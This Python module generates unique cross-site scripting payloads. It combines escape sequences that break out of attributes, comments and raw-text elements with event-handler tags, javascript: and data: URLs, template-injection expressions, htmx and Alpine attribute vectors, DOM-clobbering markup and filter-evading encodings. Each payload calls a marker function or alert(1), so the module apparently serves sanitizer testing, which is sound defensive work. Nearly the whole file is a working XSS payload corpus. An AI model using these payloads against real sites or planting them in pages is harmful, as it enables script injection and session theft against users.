"""Scripts that would run, made by combining what could run them with what could let them out of where a text stands."""

from itertools import cycle, islice

MARK = "__xss"
"""The function of the page that each payload calls; and what a live attribute of one would hold."""

_CALLS = (
    "{m}(1)",
    "{m}`1`",
    "window['{m}'](1)",
    "top.{m}(1)",
    "parent['__x'+'ss'](1)",
    "(0,{m})(1)",
    "alert(1)",
    "import('data:text/javascript,{m}(1)')",
)

_EXITS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "</template>",
    "]]>",
    "&quot;>",
    '" ',
    "' ",
    "` ",
)
"""How it leaves where it stands: an element, an attribute in either quote or none, a comment, a raw text."""

_ELEMENTS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<body onload={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    '<iframe src="javascript:{c}"></iframe>',
    '<object data="javascript:{c}"></object>',
    '<a href="javascript:{c}">go</a>',
    '<form action="javascript:{c}"><button>go</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{c}">',
    '<base href="javascript:{c}//">',
    '<link rel=stylesheet href="data:text/css,*{{background:url(javascript:{c})}}">',
    "<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={c}>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<template><img src=x onerror={c}></template>",
    "<xss-element onpointerrawupdate={c} tabindex=1 id=main>",
    "<marquee onstart={c}>",
    '<embed src="data:text/html,<script>{c}</script>">',
    # htmx would run these, if they ever became attributes
    "<div hx-on:click={c} hx-on::load={c}></div>",
    '<div hx-on="htmx:load: {c}"></div>',
    '<div data-hx-on:htmx:load="{c}"></div>',
    '<div hx-get=/evil hx-trigger="load[{c}]"></div>',
    '<div data-hx-get=/evil data-hx-trigger="every 1s [{c}]"></div>',
    '<div hx-vals="js:{{x:{c}}}" hx-get=/evil hx-trigger=load></div>',
    "<div hx-headers='js:{{x:{c}}}' hx-post=/evil hx-trigger=load></div>",
    '<div hx-vars="x:{c}" hx-get=/evil hx-trigger=load></div>',
    "<div hx-ext=evil hx-disinherit=* hx-boost=true></div>",
    '<div x-data x-init="{c}" @click="{c}"></div>',
    "<img id=main name=body src=x onerror={c}>",
    "<form id=results name=querySelector><input name=attributes></form><img src=x onerror={c}>",
)

_ATTRIBUTES = (
    "onmouseover={c} autofocus onfocus={c} x=",
    "style=animation-name:x onanimationstart={c} x=",
    "hx-on:click={c} hx-trigger=load[{c}] hx-get=/evil x=",
)

_URLS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    " javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "vbscript:{c}",
    "javascript:/*--></title></style></textarea></script><svg onload={c}>*/",
)

_EXPRESSIONS = (
    "{{{{{c}}}}}",
    "${{{c}}}",
    "{{% {c} %}}",
    "#{{{c}}}",
    "<%={c}%>",
    "';{c}//",
    '";{c}//',
    "`;{c}//",
    "\\';{c}//",
    "</script><script>{c}//",
)


def _written(text: str, number: int) -> str:
    """Some as they are, some in another writing that a sloppy decoder would undo."""
    return (
        text,
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#x3c;").replace("o", "&#111;"),
        text.replace("<", "\\u003c"),
        text.replace("<", "\uff1c").replace(">", "\uff1e"),
        text.swapcase(),
    )[(0, 0, 0, 0, 1, 0, 2, 0, 3, 0, 4, 0, 0, 5)[number % 14]]


def payloads(count: int) -> list[str]:
    """So many, no two the same."""
    makers = [*(f"{exit_}{one}" for exit_ in _EXITS for one in _ELEMENTS)]
    makers += [f"{quote} {one}" for quote in ('"', "'", "") for one in _ATTRIBUTES]
    makers += [*_URLS, *_EXPRESSIONS]
    step = max(1, len(makers) // count)
    chosen = [*makers[-26:], *makers[:-26:step], *makers[1:-26:step]]
    calls = cycle(one.format(m=MARK) for one in _CALLS)
    made = dict.fromkeys(
        _written(one.format(c=call), n) for n, (one, call) in enumerate(zip(chosen, calls, strict=False))
    )
    return list(islice(made, count))
